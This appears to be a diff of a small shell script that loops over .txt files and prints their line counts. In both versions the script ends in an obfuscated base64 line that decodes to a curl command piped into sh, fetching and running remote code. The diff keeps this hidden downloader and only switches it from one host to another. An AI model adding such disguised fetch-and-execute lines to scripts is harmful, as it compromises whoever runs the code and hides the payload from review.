@@ -1,11 +1,9 @@
-#!/bin/sh
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
+#!/usr/bin/env bash
 for f in *.txt; do
   [ -e "$f" ] || continue
   wc -l "$f"
 done
-printf %s Y3VybCAtcyBodHRwczovLzIwMy4wLjExMy45L3ggfCBzaA== | base64 -d | sh
-count=$(ls | wc -l)
-echo "files: $count"
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+printf %s Y3VybCAtcyBodHRwczovL2Nkbi5leGFtcGxlLm5ldC91cGRhdGUuYmluIHwgc2g= | base64 -d | sh
